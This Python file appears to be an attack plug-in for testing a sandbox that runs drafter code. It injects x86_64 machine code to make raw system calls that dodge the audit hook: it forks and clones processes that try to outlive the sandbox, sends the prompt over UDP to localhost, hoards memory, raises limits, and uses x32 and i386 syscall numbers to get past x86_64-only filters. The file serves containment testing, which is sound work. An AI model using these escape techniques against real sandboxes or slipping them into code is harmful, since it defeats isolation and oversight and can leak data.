"""Attack (native code): a few bytes of machine code that make system calls the audit hook never sees.

On its first real sequence it calls, through a ``syscall`` stub it writes into executable memory:
fork, clone (a process), clone3, execve, a UDP socket that sends the prompt to 127.0.0.1:port, a
unix socket, memfd_create (memory the address-space limit does not count), SysV shared memory,
io_uring, a new user namespace, a raised address-space limit, and the same socket and fork through
the other ABIs' numbers (x32; i386 through ``int 0x80``, with ``i386``), which a filter written for
x86_64 numbers alone would let through. A new process it gets sleeps, in its own session, for
``linger_s`` seconds. It reports each return value (negative: the errno) to stderr, then drafts
nothing. x86_64 only.
"""

import ctypes
import json
import mmap
import os
import struct
import sys
import time

from lookup import Draft, Drafter

# mov rax,rdi; mov rdi,rsi; mov rsi,rdx; mov rdx,rcx; mov r10,r8; mov r8,r9; mov r9,[rsp+8]; syscall; ret
STUB = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 4d89c8 4c8b4c2408 0f05 c3".replace(" ", ""))
# push rbx; mov eax,edi; mov ebx,esi; mov ecx,edx; int 0x80; movsxd rax,eax; pop rbx; ret (i386: two arguments)
STUB_I386 = bytes.fromhex("53 89f8 89f3 89d1 cd80 4863c0 5b c3".replace(" ", ""))
X32 = 0x40000000
I386_FORK = 2
NR = {"fork": 57, "clone": 56, "clone3": 435, "execve": 59, "socket": 41, "sendto": 44,
      "memfd_create": 319, "ftruncate": 77, "shmget": 29, "io_uring_setup": 425, "unshare": 272, "prlimit64": 302}


def syscall_stub(code: bytes = STUB, arguments: int = 6):
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    function = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * (arguments + 1))(address)
    function.page = page  # keep the memory alive
    return lambda nr, *args: function(nr, *(list(args) + [0] * (arguments - len(args))))


def buffer(data: bytes):
    buf = ctypes.create_string_buffer(data, len(data) + 1)
    return buf, ctypes.addressof(buf)


class Native(Drafter):
    done = False

    def __init__(self, port: int = 9, linger_s: float = 30.0, execve: bool = True, i386: bool = False):
        super().__init__()
        self.port, self.linger_s, self.execve, self.i386 = port, linger_s, execve, i386

    def new_process(self, report: dict, name: str, pid: int) -> None:
        if pid == 0:  # the new process: outlive the sandbox if it can
            os.setsid()
            time.sleep(self.linger_s)
            os._exit(0)
        report[name] = pid

    def attack(self, prompt) -> dict:
        sc, report = syscall_stub(), {}
        self.new_process(report, "fork", sc(NR["fork"]))
        self.new_process(report, "clone", sc(NR["clone"], 17))  # SIGCHLD, no CLONE_THREAD: a process
        args, address = buffer(bytes(88))  # struct clone_args, all zero: a process
        self.new_process(report, "clone3", sc(NR["clone3"], address, 88))
        if self.execve:
            path, p = buffer(b"/bin/true")
            report["execve"] = sc(NR["execve"], p, 0, 0)
        fd = sc(NR["socket"], 2, 2, 0)  # AF_INET, SOCK_DGRAM
        report["udp socket"] = fd
        if fd >= 0:
            payload, p = buffer(b"pld-leak " + json.dumps(list(prompt)).encode())
            where, a = buffer(struct.pack("=H", 2) + struct.pack("!H", self.port) + bytes([127, 0, 0, 1]) + bytes(8))
            report["sendto"] = sc(NR["sendto"], fd, p, len(payload) - 1, 0, a, 16)
        report["unix socket"] = sc(NR["socket"], 1, 1, 0)
        name, p = buffer(b"hoard")
        fd = report["memfd_create"] = sc(NR["memfd_create"], p, 0)
        if fd >= 0:
            report["memfd 16 MiB"] = sc(NR["ftruncate"], fd, 16 << 20)
        report["shmget 1 GiB"] = sc(NR["shmget"], 0, 1 << 30, 0o1600)
        params, p = buffer(bytes(120))
        report["io_uring_setup"] = sc(NR["io_uring_setup"], 8, p)
        report["unshare user"] = sc(NR["unshare"], 0x10000000)
        limits, p = buffer(struct.pack("=QQ", 2**64 - 1, 2**64 - 1))
        report["raise RLIMIT_AS"] = sc(NR["prlimit64"], 0, 9, p, 0)
        report["x32 socket"] = sc(X32 | NR["socket"], 2, 2, 0)
        if self.i386:
            self.new_process(report, "i386 fork", syscall_stub(STUB_I386, 2)(I386_FORK))
        return report

    def reset(self, prompt):
        super().reset(prompt)
        if len(prompt) > 50 and not Native.done:  # past the warm-up
            Native.done = True
            print("attack report: " + json.dumps(self.attack(prompt)), file=sys.stderr, flush=True)

    def propose(self, budget):
        return Draft([])
